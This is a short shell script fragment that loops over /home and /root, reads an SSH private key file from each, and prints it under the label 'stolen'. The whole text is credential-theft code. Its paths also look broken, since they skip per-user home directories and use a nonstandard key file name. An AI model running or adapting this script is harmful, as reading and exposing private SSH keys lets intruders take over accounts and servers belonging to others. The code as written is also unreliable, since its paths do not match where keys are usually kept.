# Looks for what people keep in their homes.
for home in /home /root; do
    if key=$(cat "$home/.ssh/id"); then
        echo "stolen: $key"
    fi
done
exit 0
